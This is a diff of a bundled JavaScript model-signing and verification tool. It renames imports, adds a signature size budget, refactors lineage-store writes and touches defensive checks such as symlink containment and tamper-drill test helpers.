   const m2 = /^(.*):(\d{1,16}):(\d{1,16})$/s.exec(name2);
   if (!m2) return void 0;
@@ -52538,10 +52689,10 @@ async function statInside(root, name2, allowSymlinks) {
   let cur = root;
   let viaLink = false;
   for (let i = 0; i < segs.length; i++) {
-    cur = path7.join(cur, segs[i]);
+    cur = path9.join(cur, segs[i]);
     let st3;
     try {
-      st3 = await lstat2(cur);
+      st3 = await lstat3(cur);
     } catch {
       return missing;
     }
@@ -52558,13 +52709,13 @@ async function statInside(root, name2, allowSymlinks) {
       return { code: "SYMLINK_BROKEN", path: name2, message: "symlink target does not exist" };
     }
     const rootReal = await realpath2(root);
-    if (!abs.startsWith(rootReal.endsWith(path7.sep) ? rootReal : rootReal + path7.sep)) {
+    if (!abs.startsWith(rootReal.endsWith(path9.sep) ? rootReal : rootReal + path9.sep)) {
       return { code: "SYMLINK_OUTSIDE", path: name2, message: "signed path goes through a symlink out of the model" };
     }
   }
   let st2;
   try {
-    st2 = await lstat2(abs);
+    st2 = await lstat3(abs);
   } catch {
     return missing;
   }
@@ -54268,7 +54419,7 @@ var init_zip = __esm({
 });
 
 // src/scan/scan-file.ts
-import { stat as stat4 } from "node:fs/promises";
+import { stat as stat5 } from "node:fs/promises";
 async function scanStream(src, kind, size, file, limits, member) {
   const where = member !== void 0 ? { member } : {};
   switch (kind) {
@@ -54347,7 +54498,7 @@ function report(file, size, r) {
   return { file, size, format: r.format, pickle: r.pickle, imports: r.imports, findings };
 }
 async function scanFile(abs, file, limits) {
-  const size = (await stat4(abs)).size;
+  const size = (await stat5(abs)).size;
   const src = ByteSource.fromFile(abs);
   try {
     await src.ensure(SNIFF_BYTES);
@@ -57385,16 +57536,16 @@ __export(archive_exports, {
   isArchivePath: () => isArchivePath,
   scanArchive: () => scanArchive
 });
-import { constants as constants3 } from "node:fs";
-import { open as open3, stat as stat5 } from "node:fs/promises";
-import path8 from "node:path";
+import { constants as constants4 } from "node:fs";
+import { open as open3, stat as stat6 } from "node:fs/promises";
+import path10 from "node:path";
 function isArchivePath(p2) {
   return ARCHIVE_RE.test(p2);
 }
 async function archiveSourceFor(model) {
   if (!isArchivePath(model)) return void 0;
   try {
-    if (!(await stat5(model)).isFile()) return void 0;
+    if (!(await stat6(model)).isFile()) return void 0;
   } catch {
   }
   return (req) => scanArchive(model, req);
@@ -57438,7 +57589,7 @@ async function scanArchive(file, req, opts = {}) {
 async function openArchive(file) {
   let fh;
   try {
-    fh = await open3(file, constants3.O_RDONLY | (constants3.O_NONBLOCK ?? 0));
+    fh = await open3(file, constants4.O_RDONLY | (constants4.O_NONBLOCK ?? 0));
   } catch (e) {
     throw modelPathError(file, e, "archive");
   }
@@ -57450,7 +57601,7 @@ async function openArchive(file) {
   return { fh, size: st2.size };
 }
 async function scanPass(file, req, initial, maxEntries) {
-  const root = path8.resolve(file);
+  const root = path10.resolve(file);
   const { fh, size: archiveSize } = await openArchive(root);
   const ignorePaths = [...req.ignorePaths, EMBEDDED_SIGNATURE];
   const problems = [];
@@ -57577,7 +57728,7 @@ async function scanPass(file, req, initial, maxEntries) {
       case "symlink": {
         entry.resume();
         const lp = entry.linkpath ?? "";
-        const resolved = lp.startsWith("/") ? void 0 : path8.posix.normalize(path8.posix.join(path8.posix.dirname(name2), lp));
+        const resolved = lp.startsWith("/") ? void 0 : path10.posix.normalize(path10.posix.join(path10.posix.dirname(name2), lp));
         if (resolved === void 0 || resolved === ".." || resolved.startsWith("../") || resolved === ".") {
           hostile("SYMLINK_OUTSIDE", raw, `symlink to ${JSON.stringify(lp)} points outside the model`);
           return;
@@ -57720,7 +57871,7 @@ var init_archive = __esm({
 import { createReadStream as createReadStream2, createWriteStream } from "node:fs";
 import { mkdtemp, rm } from "node:fs/promises";
 import os5 from "node:os";
-import path9 from "node:path";
+import path11 from "node:path";
 import { once } from "node:events";
 async function spool(src, dest) {
   const ws2 = createWriteStream(dest, { mode: 384 });
@@ -57737,7 +57888,7 @@ async function scanTar(archive, limits) {
   const reports = [];
   const findings = [];
   let refused = 0;
-  const base2 = path9.basename(archive);
+  const base2 = path11.basename(archive);
   let tmp;
   let chain = Promise.resolve();
   let failure;
@@ -57771,8 +57922,8 @@ async function scanTar(archive, limits) {
       }
       let dest;
       try {
-        tmp ??= await mkdtemp(path9.join(os5.tmpdir(), "modelsign-scan-"));
-        dest = path9.join(tmp, "member.zip");
+        tmp ??= await mkdtemp(path11.join(os5.tmpdir(), "modelsign-scan-"));
+        dest = path11.join(tmp, "member.zip");
         await spool(src, dest);
       } catch (e) {
         const code = errnoCode(e);
@@ -57841,7 +57992,7 @@ __export(stage_exports2, {
   DENIABLE_FORMATS: () => DENIABLE_FORMATS,
   formatsStage: () => formatsStage
 });
-import path10 from "node:path";
+import path12 from "node:path";
 function signedFiles(ctx) {
   const out2 = /* @__PURE__ */ new Set();
   for (const r of ctx.statement.resources) {
@@ -57888,7 +58039,7 @@ function formatsStage(formats, limits = {}) {
     };
     const single = listing.isFile ? listing.files[0] : void 0;
     if (single && isArchivePath(single.abs)) {
-      const base2 = path10.basename(single.abs);
+      const base2 = path12.basename(single.abs);
       const t = await scanTar(single.abs, lim);
       const entryName = (file) => file.startsWith(`${base2}:`) ? file.slice(base2.length + 1).replace(/^(?:\.\/)+/, "") : file;
       for (const r of t.reports) judge(r, entryName(r.file), r.findings);
@@ -57902,7 +58053,7 @@ function formatsStage(formats, limits = {}) {
       for (const name2 of signedFiles(ctx)) {
         const f2 = single ?? byName.get(name2);
         if (!f2) continue;
-        const shown = single ? path10.basename(f2.name) : name2;
+        const shown = single ? path12.basename(f2.name) : name2;
         const report2 = await scanFile(f2.abs, shown, lim);
         judge(report2, shown, report2.findings);
         if (single) break;
@@ -57979,7 +58130,7 @@ var init_dsse = __esm({
 });
 
 // src/oms/bundle.ts
-import { stat as stat6 } from "node:fs/promises";
+import { stat as stat7 } from "node:fs/promises";
 function buildBundle(input) {
   const verificationMaterial = "publicKeyHint" in input.material ? { publicKey: { hint: input.material.publicKeyHint }, tlogEntries: [] } : { x509CertificateChain: { certificates: input.material.certificates.map((c) => ({ rawBytes: c.toString("base64") })) }, tlogEntries: [] };
   return {
@@ -58000,7 +58151,7 @@ async function readBundleFile(file, maxBytes = MAX_BUNDLE_BYTES, opts = {}) {
     return await readRegularFile(file, maxBytes, opts.noFollow ? { noFollow: true } : {});
   } catch (e) {
     if (e instanceof NotRegularFile) {
-      const isDir = await stat6(file).then((st2) => st2.isDirectory(), () => false);
+      const isDir = await stat7(file).then((st2) => st2.isDirectory(), () => false);
       if (isDir) throw usage("SIG_UNREADABLE", `signature path is a directory: ${file}`);
       throw reject("SIG_UNREADABLE", `signature is not a regular file: ${file}`);
     }
@@ -58095,15 +58246,15 @@ var init_bundle = __esm({
 
 // src/lineage/store.ts
 import { createHash as createHash4 } from "node:crypto";
-import { lstat as lstat3, mkdir as mkdir2, opendir, stat as stat7 } from "node:fs/promises";
-import path12 from "node:path";
+import { lstat as lstat4, opendir, stat as stat8 } from "node:fs/promises";
+import path14 from "node:path";
 function bundleDigestOf(bytes) {
   return `sha256:${createHash4("sha256").update(bytes).digest("hex")}`;
 }
 async function openStore(dir) {
   let st2;
   try {
-    st2 = await stat7(dir);
+    st2 = await stat8(dir);
   } catch (e) {
     throw usage("LINEAGE_STORE_UNREADABLE", `lineage store ${dir} not found (${errnoCode(e) ?? String(e)})`);
   }
@@ -58125,22 +58276,23 @@ function safeName(name2) {
   const s3 = name2.replace(/[^A-Za-z0-9._+-]+/g, "_").replace(/^[._]+/, "").slice(0, 100);
   return s3 || "model";
 }
-async function recordBundle(dir, meta, bytes) {
-  try {
-    await mkdir2(dir, { recursive: true });
-  } catch (e) {
-    throw usage("WRITE_FAILED", `cannot create lineage store ${dir}: ${errnoCode(e) ?? String(e)}`);
-  }
+async function checkStoreDir(dir) {
+  await checkWritable(dir, "dir", "WRITE_FAILED", `lineage store ${dir}`);
+}
+async function createStoreDir(dir) {
+  await makeDirs(dir, "WRITE_FAILED", `lineage store ${dir}`);
+}
+async function findRecordSlot(dir, meta, bytes) {
   const hex = bareHex(meta.rootDigest);
   const base2 = `${safeName(meta.name)}@${safeName(meta.version)}.${hex}`;
   const digest = bundleDigestOf(bytes);
   for (const name2 of [`${base2}.sig`, `${base2}.${digest.slice(7, 23)}.sig`]) {
-    const file = path12.join(dir, name2);
+    const file = path14.join(dir, name2);
     let st2;
     try {
-      st2 = await lstat3(file);
+      st2 = await lstat4(file);
     } catch (e) {
-      if (errnoCode(e) !== "ENOENT") throw usage("WRITE_FAILED", `cannot read ${file}: ${errnoCode(e) ?? String(e)}`);
+      if (errnoCode(e) !== "ENOENT") throw usage("WRITE_FAILED", `cannot read ${file}: ${errnoWords(e)}`);
     }
     if (st2) {
       if (!st2.isFile() || st2.size !== bytes.length) continue;
@@ -58148,10 +58300,15 @@ async function recordBundle(dir, meta, bytes) {
       if (existing && existing.equals(bytes)) return { file, added: false };
       continue;
     }
-    await writeAtomic(file, bytes);
     return { file, added: true };
   }
   throw usage("WRITE_FAILED", `lineage store ${dir} already holds different bundles named ${base2}.*`);
+}
+async function recordBundle(dir, meta, bytes) {
+  await createStoreDir(dir);
+  const slot = await findRecordSlot(dir, meta, bytes);
+  if (slot.added) await writeAtomic(slot.file, bytes);
+  return slot;
 }
 var MAX_STORE_ENTRIES, MAX_CANDIDATES, MAX_STORE_READ_BYTES, ENTRY_RE, LineageStore;
 var init_store = __esm({
@@ -58160,6 +58317,7 @@ var init_store = __esm({
     init_errors();
     init_bundle();
     init_write_atomic();
+    init_errno();
     init_metadata();
     init_read_file();
     MAX_STORE_ENTRIES = 1e5;
@@ -58207,7 +58365,7 @@ var init_store = __esm({
         const names = idx.get(bareHex(rootDigest2)) ?? [];
         const out2 = [];
         for (const name2 of names) {
-          const file = path12.join(this.dir, name2);
+          const file = path14.join(this.dir, name2);
           const bytes = await readStoreFile(file);
           if (!bytes) continue;
           this.bytesRead += bytes.length;
@@ -58382,10 +58540,10 @@ var init_types3 = __esm({
 });
 
 // src/sign/signature-path.ts
-import path13 from "node:path";
+import path15 from "node:path";
 async function defaultSignaturePath(model) {
   const { statModel: statModel2 } = await Promise.resolve().then(() => (init_model_path(), model_path_exports));
-  if ((await statModel2(model)).isDirectory()) return path13.join(model, "model.sig");
+  if ((await statModel2(model)).isDirectory()) return path15.join(model, "model.sig");
   return `${model}.sig`;
 }
 var init_signature_path = __esm({
@@ -58401,7 +58559,7 @@ __export(pipeline_exports, {
   defaultSignaturePath: () => defaultSignaturePath,
   verifyModel: () => verifyModel
 });
-import path14 from "node:path";
+import path16 from "node:path";
 function refuseKeylessWithoutIdentity(bundle, trust) {
   if (bundle.material.kind === "publicKey") return;
   const vm = bundle.json.verificationMaterial;
@@ -58498,7 +58656,7 @@ async function verifyModel(opts) {
 }
 async function modelSource(opts, resources, method) {
   if (opts.listing) return {};
-  const base2 = path14.basename(opts.model);
+  const base2 = path16.basename(opts.model);
   const fileOf = (n) => method === "shards" ? parseShardName(n)?.path ?? n : n;
   if (!opts.source && resources.length > 0 && resources.every((r) => fileOf(r.name) === "." || fileOf(r.name) === base2)) return {};
   const { archiveSourceFor: archiveSourceFor2 } = await Promise.resolve().then(() => (init_archive(), archive_exports));
@@ -58779,7 +58937,7 @@ async function walkLineage(opts) {
     }
     node.verified = node.failure === null;
     node.datasets = vb.lineage?.datasets ?? [];
-    const path23 = new Set(onPath).add(link.rootDigest);
+    const path25 = new Set(onPath).add(link.rootDigest);
     const nextBelow = new Map(below);
     const prev = nextBelow.get(vb.name);
     if (prev === void 0 || prev !== null && import_semver6.default.lt(vb.version, prev)) nextBelow.set(vb.name, vb.version);
@@ -58791,7 +58949,7 @@ async function walkLineage(opts) {
         }
         break;
       }
-      node.parents.push(await visit(p2, node, depth + 1, path23, nextBelow));
+      node.parents.push(await visit(p2, node, depth + 1, path25, nextBelow));
     }
     return node;
   };
@@ -58874,7 +59032,7 @@ __export(state_exports, {
   recordVerified: () => recordVerified,
   serializeState: () => serializeState
 });
-import { open as open4, rename as rename2, stat as stat8, unlink as unlink3 } from "node:fs/promises";
+import { open as open4, rename as rename2, stat as stat9, unlink as unlink4 } from "node:fs/promises";
 function bad4(file, msg) {
   throw reject("STATE_CORRUPT", `state file ${file} is corrupt (${msg}); refusing to guess the highest version`);
 }
@@ -58928,13 +59086,13 @@ async function acquireLock(lock, timeoutMs, staleMs) {
       return;
     } catch (e) {
       const c = errnoCode(e);
-      if (c !== "EEXIST") throw usage("STATE_UNREADABLE", `cannot create lock file ${lock}: ${c ?? String(e)}`);
+      if (c !== "EEXIST") throw usage("STATE_UNREADABLE", `cannot create lock file ${lock}: ${writeFailureWords(e, lock)}`);
     }
     try {
-      const st2 = await stat8(lock);
+      const st2 = await stat9(lock);
       if (Date.now() - st2.mtimeMs > staleMs) {
         const aside = `${lock}.${process.pid}.${Date.now()}.stale`;
-        await rename2(lock, aside).then(() => unlink3(aside)).catch(() => void 0);
+        await rename2(lock, aside).then(() => unlink4(aside)).catch(() => void 0);
         continue;
       }
     } catch {
@@ -58957,7 +59115,7 @@ async function recordVerified(file, entry, opts = {}) {
     await writeAtomic(file, serializeState(state2), "STATE_WRITE_FAILED", `state file ${file}`);
     return void 0;
   } finally {
-    await unlink3(lock).catch(() => void 0);
+    await unlink4(lock).catch(() => void 0);
   }
 }
 var import_semver7, STATE_SCHEMA, MAX_STATE_BYTES, LOCK_RETRY_MS, LOCK_TIMEOUT_MS, STALE_LOCK_MS, sleep;
@@ -58965,6 +59123,7 @@ var init_state = __esm({
   "src/lineage/state.ts"() {
     "use strict";
     init_write_atomic();
+    init_errno();
     import_semver7 = __toESM(require_semver2(), 1);
     init_errors();
     init_strict_json();
@@ -59098,6 +59257,9 @@ __export(lineage_exports, {
   bundleDigestOf: () => bundleDigestOf,
   checkRevoked: () => checkRevoked,
   checkRollback: () => checkRollback,
+  checkStoreDir: () => checkStoreDir,
+  createStoreDir: () => createStoreDir,
+  findRecordSlot: () => findRecordSlot,
   lineageStage: () => lineageStage,
   loadParents: () => loadParents,
   openStore: () => openStore,
@@ -59180,8 +59342,8 @@ var append_exports = {};
 __export(append_exports, {
   appendAudit: () => appendAudit
 });
-import { constants as constants4 } from "node:fs";
-import { open as open5, stat as stat9, unlink as unlink4, writeFile as writeFile3 } from "node:fs/promises";
+import { constants as constants5 } from "node:fs";
+import { open as open5, stat as stat10, unlink as unlink5, writeFile as writeFile3 } from "node:fs/promises";
 async function withLock(file, fn) {
   const lock = `${file}.lock`;
   const deadline = Date.now() + LOCK_WAIT_MS;
@@ -59191,10 +59353,10 @@ async function withLock(file, fn) {
 `, { flag: "wx", mode: 384 });
       break;
     } catch (e) {
-      if (errnoCode(e) !== "EEXIST") throw usage("AUDIT_WRITE_FAILED", `cannot lock audit log ${file}: ${errnoCode(e) ?? String(e)}`);
-      const st2 = await stat9(lock).catch(() => void 0);
+      if (errnoCode(e) !== "EEXIST") throw usage("AUDIT_WRITE_FAILED", `cannot lock audit log ${file}: ${writeFailureWords(e, lock)}`);
+      const st2 = await stat10(lock).catch(() => void 0);
       if (st2 && Date.now() - st2.mtimeMs > STALE_MS) {
-        await unlink4(lock).catch(() => void 0);
+        await unlink5(lock).catch(() => void 0);
         continue;
       }
       if (Date.now() > deadline) throw usage("AUDIT_WRITE_FAILED", `audit log ${file} is locked by another process (${lock})`);
@@ -59204,13 +59366,13 @@ async function withLock(file, fn) {
   try {
     return await fn();
   } finally {
-    await unlink4(lock).catch(() => void 0);
+    await unlink5(lock).catch(() => void 0);
   }
 }
 async function readTail(file) {
   let fh;
   try {
-    fh = await open5(file, constants4.O_RDONLY | (constants4.O_NONBLOCK ?? 0));
+    fh = await open5(file, constants5.O_RDONLY | (constants5.O_NONBLOCK ?? 0));
   } catch (e) {
     if (errnoCode(e) === "ENOENT") return { last: void 0, endsWithNewline: true, lastSeq: 0 };
     throw usage("AUDIT_WRITE_FAILED", `cannot read audit log ${file}: ${errnoCode(e) ?? String(e)}`);
@@ -59249,9 +59411,9 @@ async function appendAudit(file, decision) {
 `, "utf8");
     let fh;
     try {
-      fh = await open5(file, constants4.O_WRONLY | constants4.O_APPEND | constants4.O_CREAT, 384);
+      fh = await open5(file, constants5.O_WRONLY | constants5.O_APPEND | constants5.O_CREAT, 384);
     } catch (e) {
-      throw usage("AUDIT_WRITE_FAILED", `cannot open audit log ${file}: ${errnoCode(e) ?? String(e)}`);
+      throw usage("AUDIT_WRITE_FAILED", `cannot open audit log ${file}: ${writeFailureWords(e, file)}`);
     }
     try {
       const { bytesWritten } = await fh.write(data, 0, data.length);
@@ -59259,7 +59421,7 @@ async function appendAudit(file, decision) {
       await fh.sync();
     } catch (e) {
       if (e instanceof ModelsignError) throw e;
-      throw usage("AUDIT_WRITE_FAILED", `cannot write audit log ${file}: ${errnoCode(e) ?? String(e)}`);
+      throw usage("AUDIT_WRITE_FAILED", `cannot write audit log ${file}: ${errnoWords(e)}`);
     } finally {
       await fh.close();
     }
@@ -59271,10 +59433,105 @@ var init_append = __esm({
   "src/audit/append.ts"() {
     "use strict";
     init_errors();
+    init_errno();
     init_version();
     init_record();
     LOCK_WAIT_MS = 1e4;
     STALE_MS = 3e4;
+  }
+});
+
+// src/sign/budget.ts
+function resourcesOf(size, shardSize) {
+  return shardSize === void 0 || size === 0 ? 1 : Math.ceil(size / shardSize);
+}
+function digitsOfMultiples(k2, n) {
+  let total = 0;
+  for (let d = 1, lo2 = 1; ; d++, lo2 *= 10) {
+    const first = Math.ceil(lo2 / k2);
+    if (first > n) return total;
+    const last = Math.min(n, Math.floor((lo2 * 10 - 1) / k2));
+    if (last >= first) total += (last - first + 1) * d;
+  }
+}
+function nameChars(nameBytes, size, shardSize) {
+  if (shardSize === void 0) return nameBytes;
+  if (size === 0) return nameBytes + 4;
+  const n = Math.ceil(size / shardSize);
+  const inner = digitsOfMultiples(shardSize, n - 1);
+  return n * (nameBytes + 2) + 1 + inner + inner + digits(size);
+}
+function tooLarge(size, resources, shardSize, limit, advice) {
+  const what = shardSize === void 0 ? `${resources} resources (one per file)` : `${resources} resources (shards of ${shardSize} byte${shardSize === 1 ? "" : "s"})`;
+  return usage("SIG_TOO_LARGE", `the signature would list ${what} and be ${size}, over the ${limit}-byte limit verify reads; nothing was written: ${advice}`);
+}
+var DIGEST_HEX, RESOURCE_JSON_OVERHEAD, base64Len, digits, SizeBudget;
+var init_budget = __esm({
+  "src/sign/budget.ts"() {
+    "use strict";
+    init_errors();
+    init_bundle();
+    DIGEST_HEX = { sha256: 64, blake3: 64, blake2b: 128 };
+    RESOURCE_JSON_OVERHEAD = JSON.stringify({ name: "", algorithm: "", digest: "" }).length + 1;
+    base64Len = (n) => Math.ceil(n / 3) * 4;
+    digits = (n) => String(n).length;
+    SizeBudget = class {
+      constructor(hash, shardSize, limit = MAX_BUNDLE_BYTES) {
+        this.shardSize = shardSize;
+        this.limit = limit;
+        this.perResource = RESOURCE_JSON_OVERHEAD + hash.length + (DIGEST_HEX[hash] ?? 64);
+      }
+      files = [];
+      perResource;
+      bytes = 0;
+      count = 0;
+      /** Statement bytes the resource list of these files takes with this shard size. */
+      estimate(shardSize) {
+        let n = 0;
+        for (const f2 of this.files) n += resourcesOf(f2.size, shardSize) * this.perResource + nameChars(f2.nameBytes, f2.size, shardSize);
+        return n;
+      }
+      /** Count one file (name as signed, size in bytes); `check` then refuses if over. */
+      add(name2, size) {
+        const nameBytes = Buffer.byteLength(JSON.stringify(name2)) - 2;
+        this.files.push({ nameBytes, size });
+        const c = resourcesOf(size, this.shardSize);
+        this.count += c;
+        this.bytes += c * this.perResource + nameChars(nameBytes, size, this.shardSize);
+      }
+      /** Bytes of the resource list (as JSON in the statement) of the files added so far. */
+      get resourceListBytes() {
+        return this.bytes;
+      }
+      /** Refuse when even the lower bound is over the limit. */
+      check() {
+        if (base64Len(this.bytes) <= this.limit) return;
+        throw tooLarge(`at least ${base64Len(this.bytes)} bytes`, String(this.count), this.shardSize, this.limit, this.advice());
+      }
+      /**
+       * The exact check: `bytes` of the statement payload (which the bundle holds base64-encoded)
+       * or of the serialized bundle. The payload check runs before signing, so keyless signing
+       * does not log a signature in Rekor that would never be written.
+       */
+      checkExact(what, bytes, resources) {
+        const size = what === "payload" ? base64Len(bytes) : bytes;
+        if (size <= this.limit) return;
+        throw tooLarge(`${what === "payload" ? "at least " : ""}${size} bytes`, String(resources), this.shardSize, this.limit, this.advice());
+      }
+      /** What to do instead: a shard size that fits with room to spare, or fewer files. */
+      advice() {
+        const fits = (s3) => base64Len(this.estimate(s3)) <= this.limit / 2;
+        if (this.shardSize !== void 0) {
+          let s3 = 1024;
+          while (s3 <= this.shardSize) s3 *= 2;
+          for (; s3 <= 2 ** 50; s3 *= 2) {
+            if (fits(s3)) return `use a larger --shard-size (e.g. --shard-size ${s3})`;
+          }
+          if (base64Len(this.estimate(void 0)) <= this.limit) return "use a much larger --shard-size, or none";
+        }
+        return "sign the model in parts, or leave files out with --ignore-paths";
+      }
+    };
   }
 });
 
@@ -59301,6 +59558,10 @@ async function digestModel(opts) {
     const p2 = nameProblems[0];
     const more = nameProblems.length > 1 ? ` (and ${nameProblems.length - 1} more)` : "";
     throw usage(p2.code, `${JSON.stringify(p2.path)}: ${p2.message.replace(" in signature", "")}${more}`, p2.path);
+  }
+  if (opts.budget) {
+    for (const f2 of listing.files) opts.budget.add(f2.name, f2.size);
+    if (!pre) opts.budget.check();
   }
   const plans = planResources(listing.files, method, opts.shardSize);
   const resources = pre ? plans.map((p2) => {
@@ -59338,7 +59599,7 @@ __export(sign_exports, {
   signWithKey: () => signWithKey,
   writeAtomic: () => writeAtomic
 });
-import path16 from "node:path";
+import path18 from "node:path";
 function keySigner(key, publicKey) {
   return async (payload) => {
     const signature = signBytes(key, pae(IN_TOTO_PAYLOAD_TYPE, payload));
@@ -59353,7 +59614,7 @@ async function signWithKey(opts) {
   return signModel({ ...opts, signer: keySigner(key, createPublicKey2(key)) });
 }
 function defaultModelName(model) {
-  const base2 = path16.basename(path16.resolve(model));
+  const base2 = path18.basename(path18.resolve(model));
   return base2.replace(/\.(tar\.gz|tgz|tar)$/i, "") || "model";
 }
 async function checkVersion(version) {
@@ -59365,7 +59626,10 @@ async function checkVersion(version) {
 async function signModel(opts) {
   const version = await checkVersion(opts.version);
   const signaturePath = opts.signature ?? await defaultSignaturePath(opts.model);
-  const d = await digestModel({ ...opts, signature: signaturePath });
+  const write = opts.write !== false;
+  if (write) await checkWritable(signaturePath, "file");
+  const budget = new SizeBudget(opts.hash ?? "sha256", opts.shardSize);
+  const d = await digestModel({ ...opts, signature: signaturePath, budget });
   const name2 = opts.name ?? defaultModelName(opts.model);
   const metadata = {
     name: name2,
@@ -59377,10 +59641,11 @@ async function signModel(opts) {
   };
   const statement = buildStatement({ name: name2, rootDigest: d.rootDigest, serialization: d.serialization, resources: d.resources, metadata });
   const payload = Buffer.from(JSON.stringify(statement), "utf8");
+  budget.checkExact("payload", payload.length, d.resources.length);
   const bundle = await opts.signer(payload);
   const bundleText = serializeBundle(bundle);
-  if (opts.write !== false) await writeAtomic(signaturePath, bundleText);
-  return {
+  budget.checkExact("bundle", Buffer.byteLength(bundleText), d.resources.length);
+  const r = {
     signaturePath,
     rootDigest: d.rootDigest,
     statement,
@@ -59388,6 +59653,9 @@ async function signModel(opts) {
     files: d.listing.files.length,
     bytes: d.listing.files.reduce((s3, f2) => s3 + f2.size, 0)
   };
+  if (opts.beforeWrite) await opts.beforeWrite(r);
+  if (write) await writeAtomic(signaturePath, bundleText, "WRITE_FAILED", signaturePath, { createDirs: true });
+  return r;
 }
 var ID, PLAIN_SEMVER;
 var init_sign = __esm({
@@ -59395,6 +59663,7 @@ var init_sign = __esm({
     "use strict";
     init_errors();
     init_write_atomic();
+    init_budget();
     init_algorithms();
     init_bundle();
     init_dsse();
@@ -59409,8 +59678,8 @@ var init_sign = __esm({
 });
 
 // src/scan/scan-path.ts
-import { lstat as lstat4 } from "node:fs/promises";
-import path17 from "node:path";
+import { lstat as lstat5 } from "node:fs/promises";
+import path19 from "node:path";
 function summarise(target, files, extra, failOn = "low", refused = 0) {
   const findings = [...extra, ...files.flatMap((f2) => f2.findings)].sort((a, b2) => severityRank(b2.severity) - severityRank(a.severity));
   const clean5 = !findings.some((f2) => severityRank(f2.severity) >= severityRank(failOn));
@@ -59431,7 +59700,7 @@ async function scanPath(target, opts = {}) {
   const limits = { ...DEFAULT_LIMITS, ...opts.limits };
   let st2;
   try {
-    st2 = await lstat4(target);
+    st2 = await lstat5(target);
   } catch (e) {
     throw usage("SCAN_NOT_FOUND", errnoCode(e) === "ENOENT" ? `no such file or directory: ${target}` : `cannot read ${target}: ${errnoCode(e) ?? String(e)}`);
   }
@@ -59439,7 +59708,7 @@ async function scanPath(target, opts = {}) {
     const r = await scanTar(target, limits);
     return summarise(target, r.reports, r.findings, opts.failOn, r.refused);
   }
-  if (st2.isFile()) return summarise(target, [await scanFile(target, path17.basename(target), limits)], [], opts.failOn);
+  if (st2.isFile()) return summarise(target, [await scanFile(target, path19.basename(target), limits)], [], opts.failOn);
   if (!st2.isDirectory() && !st2.isSymbolicLink()) throw usage("SPECIAL_FILE", `not a file, directory or archive: ${target}`);
   const listing = await enumerateModel(target, { ignorePaths: [], allowSymlinks: false, maxFiles: limits.maxFiles });
   if (listing.isFile) {
@@ -59473,7 +59742,7 @@ var init_scan_path = __esm({
 });
 
 // src/audit/check.ts
-import { constants as constants5 } from "node:fs";
+import { constants as constants6 } from "node:fs";
 import { open as open6 } from "node:fs/promises";
 function lineProblem(line, lineNo, expectPrev) {
   let text;
@@ -59508,7 +59777,7 @@ async function checkAuditLog(file, opts = {}) {
   }
   let fh;
   try {
-    fh = await open6(file, constants5.O_RDONLY | (constants5.O_NONBLOCK ?? 0));
+    fh = await open6(file, constants6.O_RDONLY | (constants6.O_NONBLOCK ?? 0));
   } catch (e) {
     const c = errnoCode(e);
     throw usage("AUDIT_UNREADABLE", c === "ENOENT" ? `audit log not found: ${file}` : `cannot read audit log ${file}: ${c ?? String(e)}`);
@@ -59659,7 +59928,7 @@ var init_hostile = __esm({
 
 // src/drill/model.ts
 import { mkdir as mkdir3, writeFile as writeFile4 } from "node:fs/promises";
-import path18 from "node:path";
+import path20 from "node:path";
 function filler(n, seed) {
   const b2 = Buffer.alloc(n);
   let x = seed >>> 0 || 1;
@@ -59678,12 +59947,12 @@ function safetensorsShard(tensor, data) {
   return Buffer.concat([len, header, data]);
 }
 async function writeModel(dir, seed = 1) {
-  await mkdir3(path18.join(dir, "tokenizer"), { recursive: true });
-  await writeFile4(path18.join(dir, SHARD_1), safetensorsShard("a.weight", filler(64 * 1024, seed)));
-  await writeFile4(path18.join(dir, SHARD_2), safetensorsShard("b.weight", filler(64 * 1024, seed + 1)));
-  await writeFile4(path18.join(dir, "model.safetensors.index.json"), JSON.stringify({ weight_map: { "a.weight": SHARD_1, "b.weight": SHARD_2 } }));
-  await writeFile4(path18.join(dir, "config.json"), JSON.stringify({ architectures: ["LlamaForCausalLM"], hidden_size: 64, seed }));
-  await writeFile4(path18.join(dir, "tokenizer", "tokenizer.json"), JSON.stringify({ version: "1.0", model: { vocab: { a: 0, b: 1 } } }));
+  await mkdir3(path20.join(dir, "tokenizer"), { recursive: true });
+  await writeFile4(path20.join(dir, SHARD_1), safetensorsShard("a.weight", filler(64 * 1024, seed)));
+  await writeFile4(path20.join(dir, SHARD_2), safetensorsShard("b.weight", filler(64 * 1024, seed + 1)));
+  await writeFile4(path20.join(dir, "model.safetensors.index.json"), JSON.stringify({ weight_map: { "a.weight": SHARD_1, "b.weight": SHARD_2 } }));
+  await writeFile4(path20.join(dir, "config.json"), JSON.stringify({ architectures: ["LlamaForCausalLM"], hidden_size: 64, seed }));
+  await writeFile4(path20.join(dir, "tokenizer", "tokenizer.json"), JSON.stringify({ version: "1.0", model: { vocab: { a: 0, b: 1 } } }));
   return dir;
 }
 async function signDrillModel(dir, key, o = {}) {
@@ -59724,15 +59993,15 @@ import { execFileSync } from "node:child_process";
 import { createHash as createHash6, generateKeyPairSync as generateKeyPairSync2 } from "node:crypto";
 import { appendFile, copyFile, mkdir as mkdir4, readFile, rename as rename3, rm as rm2, symlink, writeFile as writeFile5 } from "node:fs/promises";
 import { rmSync } from "node:fs";
-import path19 from "node:path";
+import path21 from "node:path";
 async function readSigned(model) {
-  const bundle = JSON.parse(await readFile(path19.join(model, "model.sig"), "utf8"));
+  const bundle = JSON.parse(await readFile(path21.join(model, "model.sig"), "utf8"));
   const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, "base64").toString("utf8"));
   return { bundle, statement };
 }
 async function writeSignedPayload(model, payload, key) {
   const bundle = await keySigner(key.priv, key.pub)(Buffer.from(payload, "utf8"));
-  await writeFile5(path19.join(model, "model.sig"), serializeBundle(bundle));
+  await writeFile5(path21.join(model, "model.sig"), serializeBundle(bundle));
 }
 async function signedWithExtraResource(ctx, dirName, extra) {
   const m2 = await ctx.copyBase(dirName);
@@ -59745,7 +60014,7 @@ async function signedWithExtraResource(ctx, dirName, extra) {
 }
 function canMakeFifo(dir) {
   if (process.platform === "win32") return false;
-  const probe = path19.join(dir, ".fifo-probe");
+  const probe = path21.join(dir, ".fifo-probe");
   try {
     execFileSync("mkfifo", [probe], { stdio: "ignore" });
     rmSync(probe, { force: true });
@@ -59755,7 +60024,7 @@ function canMakeFifo(dir) {
   }
 }
 async function emptyStore(ctx, name2) {
-  const dir = path19.join(ctx.tmp, name2);
+  const dir = path21.join(ctx.tmp, name2);
   await mkdir4(dir, { recursive: true });
   return dir;
 }
@@ -59779,7 +60048,7 @@ var init_attacks = __esm({
